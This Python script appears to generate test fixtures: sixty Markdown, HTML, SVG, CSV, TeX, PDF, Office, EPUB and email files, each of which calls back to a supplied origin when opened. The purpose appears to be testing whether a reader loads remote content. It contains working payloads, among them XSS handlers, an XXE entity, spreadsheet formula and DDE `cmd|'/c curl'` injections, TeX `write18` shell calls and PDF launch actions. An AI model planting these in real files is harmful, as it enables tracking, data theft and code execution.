"""``python hostile_documents.py FOLDER ORIGIN``: sixty documents that reach for ORIGIN if shown as what they are.

One line of JSON for each on standard output: its ``path``, the ``question`` that it alone answers, and the ``proof``, a
sentence of it. What acts stands beside the proof, in the same paragraph where the format has one.
"""

from __future__ import annotations

import io
import json
import sys
import zipfile
from base64 import b64encode
from collections.abc import Callable, Iterator
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

from tests.documents_made import mail, numbered

SHIPS = (
    "Alder",
    "Amber",
    "Anvil",
    "Apricot",
    "Badger",
    "Banyan",
    "Barley",
    "Bramble",
    "Bronze",
    "Cedar",
    "Cinder",
    "Clover",
    "Cobalt",
    "Coral",
    "Cypress",
    "Dahlia",
    "Dipper",
    "Ebony",
    "Elder",
    "Falcon",
    "Fennel",
    "Ferret",
    "Garnet",
    "Gentian",
    "Ginger",
    "Hazel",
    "Heron",
    "Hornet",
    "Indigo",
    "Ivory",
    "Jasmine",
    "Juniper",
    "Kestrel",
    "Lantern",
    "Larch",
    "Lilac",
    "Linden",
    "Magnolia",
    "Mallow",
    "Maple",
    "Marten",
    "Meadow",
    "Nettle",
    "Nutmeg",
    "Olive",
    "Opal",
    "Orchid",
    "Osprey",
    "Otter",
    "Pepper",
    "Plover",
    "Poplar",
    "Quartz",
    "Quince",
    "Raven",
    "Rowan",
    "Saffron",
    "Sorrel",
    "Thistle",
    "Willow",
)
CONTENT_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SLIDE = "http://schemas.openxmlformats.org/presentationml/2006/main"
DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/main"
PACKAGE = "application/vnd.openxmlformats-officedocument"

# What stands beside a sentence, `{o}` the origin.
MARKDOWN = {
    "image": "![pixel]({o}/md-image.png)",
    "reference": "![pixel][p] [link][p]\n\n[p]: {o}/md-reference.png",
    "link": "[link]({o}/md-link) <{o}/md-auto> {o}/md-bare",
    "onerror": '<img src="{o}/md-img.png" onerror="fetch(\'{o}/md-onerror\')">',
    "srcset": '<picture><source srcset="{o}/md-srcset.png 1x"><img srcset="{o}/md-srcset2.png 2x"></picture>',
    "script": '<script src="{o}/md-script.js"></script><script>fetch("{o}/md-inline")</script>',
    "frame": '<iframe src="{o}/md-frame" srcdoc="<img src={o}/md-srcdoc>"></iframe>',
    "command": "[run](command:workbench.action.terminal.new) [quit](command:workbench.action.quit)",
    "javascript": "[run](javascript:fetch('{o}/md-js')) <a href=\"JaVaScRiPt:fetch('{o}/md-js2')\">run</a>",
    "data": "![d](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{o}/md-data'/></svg>)",
    "refresh": '<meta http-equiv="refresh" content="0;url={o}/md-refresh"><base href="{o}/md-base/">',
    "form": '<form action="{o}/md-form"><input autofocus onfocus="this.form.submit()"></form>',
    "svg": '<svg onload="fetch(\'{o}/md-svg\')"><image href="{o}/md-svg.png"/><use href="{o}/md-use#a"/></svg>',
    "mutation": '<math><mtext><table><mglyph><style><img src="{o}/md-mxss" onerror=alert(1)>',
    "style": '<style>@import url("{o}/md-import.css"); body {{ background: url({o}/md-body.png) }}</style>',
    "media": '<video src="{o}/md-video" poster="{o}/md-poster" autoplay></video><audio src="{o}/md-audio"></audio>',
    "prefetch": '<link rel="prefetch" href="{o}/md-prefetch"><link rel="dns-prefetch" href="{o}/md-dns">',
    "embed": "![[{o}/md-wiki.png]] <object data='{o}/md-object'></object><embed src='{o}/md-embed'>",
    "mermaid": '\n\n```mermaid\ngraph LR\n  a["<img src={o}/md-mermaid>"] --> b\n  click a href "{o}/md-click"\n```',
    "editor": "[open](vscode://file/etc/passwd) [ext](vscode:extension/x.y) ![r](vscode-resource:/etc/passwd)",
}
HTML_HEAD = {
    "stylesheet": '<link rel="stylesheet" href="{o}/html.css">',
    "import": "<style>@import '{o}/html-import.css';</style>",
    "font": "<style>@font-face {{ font-family: f; src: url({o}/html.woff2) }} body {{ font-family: f }}</style>",
    "preload": '<link rel="preload" as="image" href="{o}/html-preload.png"><link rel="icon" href="{o}/html.ico">',
    "meta": '<meta http-equiv="refresh" content="0;url={o}/html-refresh">',
    "module": '<script type="module">import "{o}/html-module.js"</script><link rel="manifest" href="{o}/html.json">',
}
HTML_BODY = {
    "body": "<script>onload = () => fetch('{o}/html-load'); new WebSocket('{o}'.replace('http', 'ws'))</script>",
    "pixel": '<img src="{o}/html-img.png" width="1" height="1"><input type="image" src="{o}/html-input.png">',
    "post": "<form action='{o}/html-form' method='post' id='f'></form><script>f.submit()</script>",
    "nested": '<iframe src="{o}/html-frame"></iframe><object data="{o}/html-object"></object><embed src="{o}/embed">',
    "beacon": "<script>navigator.sendBeacon('{o}/html-beacon')</script><a href='{o}/' ping='{o}/html-ping'>a</a>",
    "background": '<table background="{o}/background.png"><tr><td style="background:url({o}/style.png)"></table>',
}
SVG = {
    "svg-load": "<script>fetch('{o}/svg-script')</script><set attributeName='x' onbegin=\"fetch('{o}/svg-set')\"/>",
    "svg-image": '<image href="{o}/svg-image.png"/><use href="{o}/svg-use.svg#a"/>',
    "svg-foreign": '<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="{o}/foreign.png"/></foreignObject>',
    "svg-style": "<style>@import url({o}/svg-style.css);</style><rect fill='url({o}/svg-fill.svg#p)'/>",
}
TEXTS = {
    "formula.csv": 'ship,laid\n{p},"=WEBSERVICE(""{o}/csv"")"\nlink,"=HYPERLINK(""{o}/csv-link"",""a"")"\n',
    "cell.csv": "ship,laid\n{p} <img src={o}/csv-img onerror=alert(1)>,1931\n",
    "entity.xml": '<?xml version="1.0"?>\n<?xml-stylesheet href="{o}/xml.xsl" type="text/xsl"?>\n'
    '<!DOCTYPE a [<!ENTITY e SYSTEM "{o}/xml-entity">]>\n<a>{p} &e;</a>\n',
    "picture.rst": "Ships\n=====\n\n{p}\n\n.. image:: {o}/rst.png\n\n.. raw:: html\n   :url: {o}/rst-raw\n",
    "input.tex": "\\documentclass{{article}}\n\\begin{{document}}\n{p}\n\\includegraphics{{{o}/tex.png}}\n"
    "\\immediate\\write18{{curl {o}/tex}}\n\\end{{document}}\n",
    "link.org": '* Ships\n\n{p} [[{o}/org.png]] [[elisp:(url-retrieve "{o}/org")][a]]\n',
    "include.adoc": "= Ships\n\n{p}\n\ninclude::{o}/adoc[]\n\nimage::{o}/adoc.png[]\n",
    "page.py": '"""{p}"""\n\nimport urllib.request\n\nurllib.request.urlopen("{o}/python")\n',
}
PDF_ACTIONS = {
    "uri": "<< /S /URI /URI ({o}/pdf-uri) >>",
    "script": "<< /S /JavaScript /JS (app.launchURL\\('{o}/pdf-js'\\);) >>",
    "launch": "<< /S /Launch /F ({o}/pdf-launch) >>",
    "remote": "<< /S /GoToR /F << /FS /URL /F ({o}/pdf-remote) >> /D [0 /Fit] >>",
    "submit": "<< /S /SubmitForm /F << /FS /URL /F ({o}/pdf-submit) >> >>",
}
WORD_PARTS = {
    "template": (
        "settings",
        '<Relationship Id="r9" Type="{office}/attachedTemplate" Target="{o}/docx.dotm" TargetMode="External"/>',
        "",
    ),
    "picture": (
        "document",
        '<Relationship Id="r9" Type="{office}/image" Target="{o}/docx.png" TargetMode="External"/>',
        '<w:r><w:drawing><a:blip xmlns:a="{drawing}" xmlns:r="{office}" r:link="r9"/></w:drawing></w:r>',
    ),
    "field": ("document", "", '<w:fldSimple w:instr="INCLUDEPICTURE &quot;{o}/docx-field.png&quot; \\d"/>'),
}


def notebooks(proof: str, origin: str) -> Iterator[tuple[str, str]]:
    """Notebooks whose cells and outputs act."""
    cells: dict[str, list[dict[str, object]]] = {
        "attachment": [{"cell_type": "markdown", "metadata": {}, "source": f"{proof} ![a]({origin}/nb.png)"}],
        "output": [
            {"cell_type": "markdown", "metadata": {}, "source": proof},
            {
                "cell_type": "code",
                "metadata": {},
                "execution_count": 1,
                "source": "show()",
                "outputs": [
                    {
                        "output_type": "display_data",
                        "metadata": {},
                        "data": {
                            "text/html": f'<img src="{origin}/nb-html.png"><script>fetch("{origin}/nb-js")</script>',
                            "application/javascript": f'fetch("{origin}/nb-application")',
                            "image/svg+xml": f'<svg><image href="{origin}/nb-svg.png"/></svg>',
                        },
                    }
                ],
            },
        ],
    }
    for name, each in cells.items():
        metadata = {"language_info": {"name": "python"}}
        yield name, json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": each})


def pdf(proof: str, action: str) -> bytes:
    """A page with the proof that acts when it is opened, and where it is clicked."""
    content = f"BT /F1 12 Tf 72 720 Td ({proof}) Tj ET".encode()
    return numbered(
        [
            f"<< /Type /Catalog /Pages 2 0 R /OpenAction {action} >>".encode(),
            b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            (
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R /Annots [6 0 R] "
                b"/Resources << /Font << /F1 3 0 R >> >> >>"
            ),
            b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
            f"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /Border [0 0 1] /A {action} >>".encode(),
        ]
    )


def zipped(parts: dict[str, str]) -> bytes:
    """An archive of some texts."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return held.getvalue()


def relations(*targets: str) -> str:
    """The part of a package that says what belongs to what."""
    return f'<Relationships xmlns="{RELATIONS}">{"".join(targets)}</Relationships>'


def related(kind: str, target: str, id_: str = "r1", more: str = "") -> str:
    """One of these relations."""
    return f'<Relationship Id="{id_}" Type="{OFFICE}/{kind}" Target="{target}"{more}/>'


def types(**parts: str) -> str:
    """The part of a package that says what each is."""
    named = "".join(f'<Override PartName="/{part}" ContentType="{kind}"/>' for part, kind in parts.items())
    defaults = '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    defaults += '<Default Extension="xml" ContentType="application/xml"/>'
    return f'<Types xmlns="{CONTENT_TYPES}">{defaults}{named}</Types>'


def word(proof: str, part: str, relation: str, inside: str) -> bytes:
    """A DOCX that loads something from elsewhere."""
    body = f"<w:p><w:r><w:t>{proof}</w:t></w:r>{inside}</w:p>"
    settings = f'<w:settings xmlns:w="{WORD}" xmlns:r="{OFFICE}"><w:attachedTemplate r:id="r9"/></w:settings>'
    document = related("settings", "settings.xml") + (relation if part == "document" else "")
    return zipped(
        {
            "[Content_Types].xml": types(
                **{
                    "word/document.xml": f"{PACKAGE}.wordprocessingml.document.main+xml",
                    "word/settings.xml": f"{PACKAGE}.wordprocessingml.settings+xml",
                }
            ),
            "_rels/.rels": relations(related("officeDocument", "word/document.xml")),
            "word/document.xml": f'<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>',
            "word/_rels/document.xml.rels": relations(document),
            "word/settings.xml": settings if part == "settings" else f'<w:settings xmlns:w="{WORD}"/>',
            "word/_rels/settings.xml.rels": relations(*([relation] if part == "settings" else [])),
        }
    )


def sheet(proof: str, origin: str) -> bytes:
    """An XLSX whose cells ask for pages, with a link to another book."""
    row = (
        '<row r="1">'
        f'<c r="A1" t="inlineStr"><is><t>{proof}</t></is></c>'
        f'<c r="B1"><f>WEBSERVICE("{origin}/xlsx")</f><v>0</v></c>'
        f"<c r=\"C1\"><f>cmd|'/c curl {origin}'!A1</f><v>0</v></c></row>"
    )
    elsewhere = (
        f'<Relationship Id="r1" Type="{OFFICE}/externalLinkPath" Target="{origin}/book.xlsx" TargetMode="External"/>'
    )
    return zipped(
        {
            "[Content_Types].xml": types(
                **{
                    "xl/workbook.xml": f"{PACKAGE}.spreadsheetml.sheet.main+xml",
                    "xl/worksheets/sheet1.xml": f"{PACKAGE}.spreadsheetml.worksheet+xml",
                    "xl/externalLinks/externalLink1.xml": f"{PACKAGE}.spreadsheetml.externalLink+xml",
                }
            ),
            "_rels/.rels": relations(related("officeDocument", "xl/workbook.xml")),
            "xl/workbook.xml": f'<workbook xmlns="{SHEET}" xmlns:r="{OFFICE}"><sheets><sheet name="Ships" sheetId="1" '
            'r:id="r1"/></sheets><externalReferences><externalReference r:id="r2"/></externalReferences></workbook>',
            "xl/_rels/workbook.xml.rels": relations(
                related("worksheet", "worksheets/sheet1.xml"),
                related("externalLink", "externalLinks/externalLink1.xml", "r2"),
            ),
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{SHEET}"><sheetData>{row}</sheetData></worksheet>',
            "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{SHEET}" xmlns:r="{OFFICE}">'
            '<externalBook r:id="r1"/></externalLink>',
            "xl/externalLinks/_rels/externalLink1.xml.rels": relations(elsewhere),
        }
    )


def slides(proof: str, origin: str) -> bytes:
    """A PPTX with a linked picture and a click that leads elsewhere."""
    outside = ' TargetMode="External"'
    text = f'<a:p><a:r><a:rPr><a:hlinkClick r:id="r2"/></a:rPr><a:t>{proof}</a:t></a:r></a:p>'
    shape = (
        '<p:sp><p:nvSpPr><p:cNvPr id="2" name="Text"/><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/>'
        f"<p:txBody><a:bodyPr/>{text}</p:txBody></p:sp>"
    )
    picture = (
        '<p:pic><p:nvPicPr><p:cNvPr id="3" name="Picture"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr>'
        '<p:blipFill><a:blip r:link="r1"/></p:blipFill><p:spPr/></p:pic>'
    )
    group = '<p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>'
    tree = group + shape + picture
    names = f'xmlns:p="{SLIDE}" xmlns:a="{DRAWING}" xmlns:r="{OFFICE}"'
    return zipped(
        {
            "[Content_Types].xml": types(
                **{
                    "ppt/presentation.xml": f"{PACKAGE}.presentationml.presentation.main+xml",
                    "ppt/slides/slide1.xml": f"{PACKAGE}.presentationml.slide+xml",
                }
            ),
            "_rels/.rels": relations(related("officeDocument", "ppt/presentation.xml")),
            "ppt/presentation.xml": f'<p:presentation {names}><p:sldIdLst><p:sldId id="256" r:id="r1"/></p:sldIdLst>'
            "</p:presentation>",
            "ppt/_rels/presentation.xml.rels": relations(related("slide", "slides/slide1.xml")),
            "ppt/slides/slide1.xml": f"<p:sld {names}><p:cSld><p:spTree>{tree}</p:spTree></p:cSld></p:sld>",
            "ppt/slides/_rels/slide1.xml.rels": relations(
                related("image", f"{origin}/pptx.png", "r1", outside),
                related("hyperlink", f"{origin}/pptx", "r2", outside),
            ),
        }
    )


def book(proof: str, origin: str) -> bytes:
    """An EPUB whose page loads from elsewhere."""
    page = (
        '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Ships</title>'
        f'<link rel="stylesheet" href="{origin}/epub.css"/><script src="{origin}/epub.js"/></head>'
        f'<body><p>{proof}</p><img src="{origin}/epub.png"/></body></html>'
    )
    container = (
        '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container" version="1.0"><rootfiles>'
        '<rootfile full-path="a.opf" media-type="application/oebps-package+xml"/></rootfiles></container>'
    )
    package = (
        '<package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata/><manifest><item id="a" href="a.xhtml" '
        'media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/></spine></package>'
    )
    return zipped(
        {
            "mimetype": "application/epub+zip",
            "META-INF/container.xml": container,
            "a.opf": package,
            "a.xhtml": page,
        }
    )


def letter(proof: str, origin: str, *, encoded: bool) -> bytes:
    """A message in HTML that says that it was read."""
    style = f'<link rel="stylesheet" href="{origin}/mail.css">'
    page = f'<html><body><p>{proof}</p><img src="{origin}/mail.png">{style}</body></html>'
    written = b64encode(page.encode()).decode() if encoded else page
    way = "base64" if encoded else "8bit"
    heads = f"From: a@example.org\nTo: b@example.org\nSubject: Ships\nDisposition-Notification-To: <{origin}/receipt>\n"
    kind = f"MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: {way}\n"
    return f"{heads}Date: Fri, 1 Mar 2024 10:00:00 +0000\n{kind}\n{written}\n".encode()


def documents(origin: str) -> Iterator[tuple[str, Callable[[str], str | bytes]]]:
    """The names of all, each with what makes it of its proof."""
    for name, acts in MARKDOWN.items():
        yield f"{name}.md", lambda proof, acts=acts: f"# Ships\n\n{proof} {acts.format(o=origin)}\n"
    for name, acts in HTML_HEAD.items():
        yield (
            f"{name}.html",
            lambda proof, acts=acts: f"<html><head>{acts.format(o=origin)}</head><body><p>{proof}</p></body></html>",
        )
    for name, acts in HTML_BODY.items():
        yield (
            f"{name}.html",
            lambda proof, acts=acts: f"<html><body><p>{proof}</p>{acts.format(o=origin)}</body></html>",
        )
    for name, acts in SVG.items():
        root = 'xmlns="http://www.w3.org/2000/svg" onload="fetch(\'{o}/svg-onload\')"'
        svg = f'<svg {root}><text y="20">{{p}}</text>{{acts}}</svg>'
        yield f"{name}.svg", lambda proof, svg=svg, acts=acts: svg.format(o=origin, p=proof, acts=acts.format(o=origin))
    for name, text in TEXTS.items():
        yield name, lambda proof, text=text: text.format(o=origin, p=proof)
    for at, name in enumerate(name for name, _ in notebooks("", origin)):
        yield f"{name}.ipynb", lambda proof, at=at: list(notebooks(proof, origin))[at][1]
    for name, action in PDF_ACTIONS.items():
        yield f"{name}.pdf", lambda proof, action=action: pdf(proof, action.format(o=origin))
    for name, (part, relation, inside) in WORD_PARTS.items():
        known = {"o": origin, "office": OFFICE, "drawing": DRAWING}
        parts = part, relation.format(**known), inside.format(**known)
        yield f"{name}.docx", lambda proof, parts=parts: word(proof, *parts)
    yield "book.xlsx", lambda proof: sheet(proof, origin)
    yield "slides.pptx", lambda proof: slides(proof, origin)
    yield "book.epub", lambda proof: book(proof, origin)
    yield "html.eml", lambda proof: letter(proof, origin, encoded=False)
    yield "encoded.eml", lambda proof: letter(proof, origin, encoded=True)
    yield (
        "plain.eml",
        lambda proof: mail(f"![s]({origin}/subject)", "Fri, 1 Mar 2024 10:00:00 +0000", f"{proof} {origin}/mail"),
    )


def main(folder: Path, origin: str) -> None:
    """Write all, and tell of each."""
    folder.mkdir(parents=True, exist_ok=True)
    for ship, (name, make) in zip(SHIPS, documents(origin), strict=True):
        proof = f"The keel of the {ship} was laid in 1931."
        made = make(proof)
        (folder / name).write_bytes(made.encode() if isinstance(made, str) else made)
        print(json.dumps({"path": name, "question": f"When was the keel of the {ship} laid?", "proof": proof}))


main(Path(sys.argv[1]), sys.argv[2])
